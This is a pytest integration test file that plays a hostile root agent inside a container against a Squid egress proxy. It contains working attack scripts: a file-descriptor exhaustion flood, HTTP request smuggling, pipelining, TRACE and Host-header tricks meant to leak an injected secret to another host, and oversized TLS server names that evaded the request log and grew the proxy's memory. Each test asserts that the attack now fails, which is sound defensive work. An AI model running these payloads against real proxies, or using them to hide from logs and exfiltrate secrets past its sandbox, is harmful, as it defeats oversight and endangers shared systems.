"""A hostile agent (root in its container) against its plan's proxy, on the real Incus (issue 16's red team).

Each test is an attack that worked once, or one that must keep failing; docs/networking.md ("What the proxy does
not stop") lists what remains. The proxies here are these tests' own: each test's plan has a
name no other test uses.
"""

from __future__ import annotations

import json
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from cci_builtin_plugins.incus.driver import IncusDriver
from tests import incus_env
from tests.integration.conftest import CCI, run_cci
from tests.integration.test_proxy_egress import LOCK_WAIT, PROXY_IMAGE
from tests.network_hosts import INTERNET_HOSTS, TestHosts
from tests.workspace_config import write_trusted

pytestmark = pytest.mark.incus


@pytest.fixture
def own_plan(claude_environ: dict[str, str], driver: IncusDriver, tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A workspace whose proxy plan (one allowed name of its own) no other test shares, and that name; the plan's
    network (and its proxy) is deleted afterwards, by name."""
    name = f"attack-{uuid.uuid4().hex[:8]}.ccit.test"
    workspace = tmp_path / "ws"
    workspace.mkdir()
    write_trusted(workspace, f'[network]\nmode = "proxy"\nallowed_domains = ["{name}"]\n'
                             f'hosts = {{ "{name}" = "{INTERNET_HOSTS[0]}" }}\nproxy_image = "{PROXY_IMAGE}"\n')
    yield workspace, name
    for network in driver.policy_networks():
        if name in network.plan.settings.get("allowed_domains", []):
            run_cci("network", "delete", network.name, env=claude_environ)


#: inside: hold HELD connections to the proxy, each with a request head never finished (as a tool that leaks them,
#: or an agent that wants the proxy for itself), then ask for a name no rule allows; print how the proxy answered
HOLD_AND_ASK = """
import resource, socket, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
for _ in range({held}):
    connection = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    connection.sendall(b"GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n")
    held.append(connection)
ask = socket.create_connection(("127.0.0.1", 3128), timeout=10)
ask.sendall(b"GET http://unlisted.ccit.test/ HTTP/1.1\\r\\nHost: unlisted.ccit.test\\r\\nConnection: close\\r\\n\\r\\n")
try:
    print("answer:", ask.recv(64).split(b"\\r\\n")[0].decode())
except OSError as exc:
    print("answer: none,", type(exc).__name__)
"""


def test_many_connections_held_by_one_agent_leave_the_proxy_answering(
        own_plan: tuple[Path, str], claude_environ: dict[str, str]) -> None:
    """Squid ran with the default 1024 file descriptors: 1500 connections held open by one container (a few
    processes' worth of a leaky tool) left it answering nobody, every other container sharing the proxy
    included ("Your cache is running out of filedescriptors")."""
    workspace, name = own_plan
    result = run_cci("run", "--", "python3", "-c", HOLD_AND_ASK.format(held=1500, name=name), env=claude_environ,
                     cwd=workspace, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "answer: HTTP/1.1 403 Forbidden" in result.stdout, result.stdout


# --- a secret's real value toward any other host: attacks that must keep failing ------------------------------------

SECRET_HOST, OTHER_HOST = "attack-api.ccit.test", "attack-other.ccit.test"

#: inside: each attack on the secret (its placeholder in $ATTACK_TOKEN) prints one line "LABEL<TAB>what came back"
SECRET_ATTACKS = r'''
import json, os, socket, ssl, sys
PH, API, OTHER = os.environ["ATTACK_TOKEN"], sys.argv[1], sys.argv[2]
INSECURE = sys.argv[3:] == ["--insecure"]  # an agent takes any certificate the proxy makes
AUTH = f"Authorization: Bearer {PH}\r\n"

def read(sock):
    data = b""
    try:
        while len(data) < 100000:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError as exc:
        data += f"<{type(exc).__name__}>".encode()
    return data

def plain(request):
    sock = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    sock.sendall(request.encode())
    return read(sock)

def tunnel(request, target=API, sni=API):
    sock = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    sock.sendall(f"CONNECT {target}:443 HTTP/1.1\r\nHost: {target}:443\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head and (byte := sock.recv(1)):
        head += byte
    if b" 200 " not in head.split(b"\r\n")[0]:
        return head
    context = ssl.create_default_context(cafile="/etc/cci/ca-certificates.crt")
    context.load_verify_locations("/workspace/ccit-ca.pem")
    if INSECURE:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        secure = context.wrap_socket(sock, server_hostname=sni)
        secure.sendall(request.encode())
        return read(secure)
    except OSError as exc:
        return f"<{type(exc).__name__}>".encode()

END = "Connection: close\r\n\r\n"
attacks = {
    "trace answered by the proxy": tunnel(f"TRACE / HTTP/1.1\r\nHost: {API}\r\nMax-Forwards: 0\r\n{AUTH}{END}"),
    "options answered by the proxy": tunnel(f"OPTIONS * HTTP/1.1\r\nHost: {API}\r\nMax-Forwards: 0\r\n{AUTH}{END}"),
    "other Host header in its session": tunnel(f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}{END}"),
    "other absolute URL in its session": tunnel(f"GET https://{OTHER}/ HTTP/1.1\r\nHost: {API}\r\n{AUTH}{END}"),
    "CONNECT in its session": tunnel(f"CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n{AUTH}\r\n"),
    "second request for another host": tunnel(f"GET /1 HTTP/1.1\r\nHost: {API}\r\n\r\n"
                                              f"GET /2 HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}{END}"),
    "smuggled behind chunked": tunnel(f"POST / HTTP/1.1\r\nHost: {API}\r\nTransfer-Encoding: chunked\r\n"
                                      f"Content-Length: 80\r\n\r\n0\r\n\r\n"
                                      f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}\r\n"),
    "its session's TLS to another host": tunnel(f"GET / HTTP/1.1\r\nHost: {API}\r\n{AUTH}{END}", target=OTHER),
    "another host by plain HTTPS URL": plain(f"GET https://{OTHER}/ HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}{END}"),
    "cache manager": plain(f"GET http://127.0.0.1:3128/squid-internal-mgr/menu HTTP/1.1\r\nHost: x\r\n{AUTH}{END}"),
    "its own host (the echo)": tunnel(f"GET /own HTTP/1.1\r\nHost: {API}\r\n{AUTH}{END}"),
}
for label, answer in attacks.items():
    print(json.dumps([label, answer.decode("latin-1")]))
'''

#: what each attack got back (after the CONNECT's 200 for those in a TLS session): squid's own answer, its refusal,
#: a TLS session cut (the server name is not the CONNECT's), or the other host's echo of the placeholder
EXPECTED: dict[str, str | tuple[str, ...]] = {
    "trace answered by the proxy": "Authorization: ** NOT DISPLAYED **",
    "options answered by the proxy": "501 Not Implemented",
    "other Host header in its session": "403 Forbidden",
    "other absolute URL in its session": "403 Forbidden",
    "CONNECT in its session": "403 Forbidden",
    "second request for another host": "403 Forbidden",
    "smuggled behind chunked": "403 Forbidden",
    "its session's TLS to another host": ("<SSLEOFError>", "<ConnectionResetError>"),
    "another host by plain HTTPS URL": '"Bearer cci-placeholder-',
    "cache manager": "403 Forbidden",
}


def secret_attacks(claude_environ: dict[str, str], driver: IncusDriver, tmp_path: Path, real: str, *,
                   trust_test_ca: bool) -> dict[str, str]:
    """What each of :data:`SECRET_ATTACKS` got back, with ``real`` as the secret of the secret's host (the proxy
    trusting the test hosts' CA, or not: ``--insecure`` then, as an agent takes any certificate the proxy makes)."""
    with TestHosts(wait=LOCK_WAIT) as hosts:
        workspace = tmp_path / "ws"
        workspace.mkdir()
        trust = f'proxy_trust_ca = "{hosts.ca_file}"\n' if trust_test_ca else ""
        write_trusted(workspace, f'[network]\nmode = "proxy"\nallowed_domains = ["{SECRET_HOST}", "{OTHER_HOST}"]\n'
                                 f'hosts = {{ "{SECRET_HOST}" = "{INTERNET_HOSTS[0]}", '
                                 f'"{OTHER_HOST}" = "{INTERNET_HOSTS[1]}" }}\n{trust}proxy_image = "{PROXY_IMAGE}"\n'
                                 f'[secrets]\nenv = ["ATTACK_TOKEN"]\nhosts = {{ ATTACK_TOKEN = ["{SECRET_HOST}"] }}\n')
        shutil.copy(hosts.ca_file, workspace / "ccit-ca.pem")
        (workspace / "attacks.py").write_text(SECRET_ATTACKS)
        insecure = () if trust_test_ca else ("--insecure",)
        try:
            result = run_cci("run", "--", "python3", "/workspace/attacks.py", SECRET_HOST, OTHER_HOST, *insecure,
                             env={**claude_environ, "ATTACK_TOKEN": real}, cwd=workspace, timeout=300)
        finally:
            for network in driver.policy_networks():
                if SECRET_HOST in network.plan.settings.get("allowed_domains", []):
                    run_cci("network", "delete", network.name, env=claude_environ)
    assert result.returncode == 0, result.stderr
    return dict(json.loads(line) for line in result.stdout.splitlines() if line.startswith("["))


def test_a_secret_goes_to_no_other_host_whatever_the_agent_sends(
        claude_environ: dict[str, str], driver: IncusDriver, tmp_path: Path) -> None:
    """The proxy answering by itself (TRACE and OPTIONS with Max-Forwards: 0), another host named inside the
    secret's TLS session (Host, absolute URL, CONNECT, a pipelined or smuggled request), another host's TLS
    session, squid's own pages: the placeholder at most, never the value; toward its own host the value (the
    test host sends it back: the check that the attacks ran on a working secret)."""
    real = f"attack-real-{uuid.uuid4().hex}"
    answers = secret_attacks(claude_environ, driver, tmp_path, real, trust_test_ca=True)
    own = answers.pop("its own host (the echo)")
    assert f'"Bearer {real}"' in own, own
    assert {label: real in answer for label, answer in answers.items()} == dict.fromkeys(EXPECTED, False), answers
    # each attack got what shows it was stopped where it should be (not, say, a client error before it was sent)
    got = {label: any(want in answer for want in ((EXPECTED[label],) if isinstance(EXPECTED[label], str) else
                                               EXPECTED[label])) for label, answer in answers.items()}
    assert got == dict.fromkeys(EXPECTED, True), answers


def test_a_secret_goes_to_no_server_the_proxy_cannot_verify(
        claude_environ: dict[str, str], driver: IncusDriver, tmp_path: Path) -> None:
    """The secret's host answers with a certificate of a CA the proxy does not trust (no ``proxy_trust_ca``: the
    test CA is not among the system's), as a machine in the middle would: the proxy must not send it the value."""
    real = f"attack-real-{uuid.uuid4().hex}"
    own = secret_attacks(claude_environ, driver, tmp_path, real, trust_test_ca=False)["its own host (the echo)"]
    assert real not in own and "ERR_SECURE_CONNECT_FAIL" in own, own


# --- the request log --------------------------------------------------------------------------------------------

#: inside: COUNT CONNECTs to the allowed name whose TLS hello carries a server name of SIZE bytes (a TLS record holds
#: 16 KiB: the hello is split into several), each a new one when COUNT > 1
HUGE_SERVER_NAME = """
import os, socket, struct
name, size, count = {name!r}, {size}, {count}
server_name = b"\\x01" * size
extensions = struct.pack("!HHHBH", 0, size + 5, size + 3, 0, size) + server_name
body = (b"\\x03\\x03" + os.urandom(32) + b"\\x00" + b"\\x00\\x02\\x00\\x2f" + b"\\x01\\x00"
        + struct.pack("!H", len(extensions)) + extensions)
hello = b"\\x01" + len(body).to_bytes(3, "big") + body
records = b"".join(b"\\x16\\x03\\x01" + struct.pack("!H", len(hello[at:at + 16384])) + hello[at:at + 16384]
                   for at in range(0, len(hello), 16384))
at = records.index(b"\\x01" * 16)
for number in range(count):
    if count > 1:  # another server name each time: its first 16 bytes differ
        records = records[:at] + os.urandom(8).hex().encode() + records[at + 16:]
    connection = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    connection.sendall(f"CONNECT {{name}}:443 HTTP/1.1\\r\\nHost: {{name}}:443\\r\\n\\r\\n".encode())
    print("connect:", connection.recv(64).split(b"\\r\\n")[0].decode())
    connection.sendall(records)
    try:
        print("then:", connection.recv(64))
    except OSError as exc:
        print("then:", type(exc).__name__)
    connection.close()
print("done", flush=True)
"""


def test_a_request_with_a_huge_tls_server_name_is_in_the_log(
        own_plan: tuple[Path, str], claude_environ: dict[str, str]) -> None:
    """Squid logged the whole server name, URL-encoded: 60000 bytes made a line of 180 kB, which the log's reader
    skipped (a line of more than 64 KiB is no record): the agent's refused request was not in 'cci network log'
    (and a few hundred such lines filled the log beyond what cci reads)."""
    workspace, name = own_plan
    result = run_cci("run", "--", "python3", "-c", HUGE_SERVER_NAME.format(name=name, size=60000, count=1),
                     env=claude_environ, cwd=workspace, timeout=300)
    assert result.returncode == 0 and "connect: HTTP/1.1 200" in result.stdout, (result.stdout, result.stderr)
    logged = run_cci("network", "log", "--format", "json", env=claude_environ, cwd=workspace)
    assert logged.returncode == 0, logged.stderr
    records = [json.loads(line) for line in logged.stdout.splitlines() if line.strip()]
    refused = [record for record in records if record["host"] == name and record["sni"].startswith("\x01")]
    assert len(refused) == 1 and refused[0]["allowed"] is False, records
    assert len(refused[0]["sni"]) < 1024, len(refused[0]["sni"])


def test_server_names_that_do_not_match_leave_squids_memory_as_it_was(
        own_plan: tuple[Path, str], claude_environ: dict[str, str], driver: IncusDriver) -> None:
    """Squid kept each answer of the SNI helper for an hour, without bound, keyed by the server name: 2000 TLS
    hellos with server names of 30 kB, each another one, grew it by some 60 MB (an agent's flood: gigabytes, the
    proxy of every container sharing it, the host's memory)."""
    import subprocess
    import time

    from cci_builtin_plugins.incus.proxy import proxy_name

    workspace, name = own_plan
    script = HUGE_SERVER_NAME.format(name=name, size=30000, count=2000) + "\nimport time\ntime.sleep(120)\n"
    agent = subprocess.Popen([str(CCI), "run", "--", "python3", "-c", script], env=claude_environ, cwd=workspace,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert agent.stdout is not None
        deadline = time.monotonic() + 240
        while (line := agent.stdout.readline()) and line.strip() != "done" and time.monotonic() < deadline:
            pass
        assert line.strip() == "done", agent.stderr.read() if agent.poll() is not None else "no end"
        network = next(item.name for item in driver.policy_networks()
                       if name in item.plan.settings.get("allowed_domains", []))
        rss = subprocess.run(["incus", "--project", incus_env.PROJECT, "exec", proxy_name(network), "--", "sh", "-c",
                              "for p in /proc/[0-9]*; do grep -qx squid $p/comm && grep VmRSS $p/status; done; true"],
                             capture_output=True, text=True, timeout=60, check=True).stdout
    finally:
        agent.terminate()
        agent.wait(timeout=60)
    sizes = [int(line.split()[1]) for line in rss.splitlines()]
    assert sizes and max(sizes) < 60 * 1024, rss  # kB: squid starts at about 22 MB
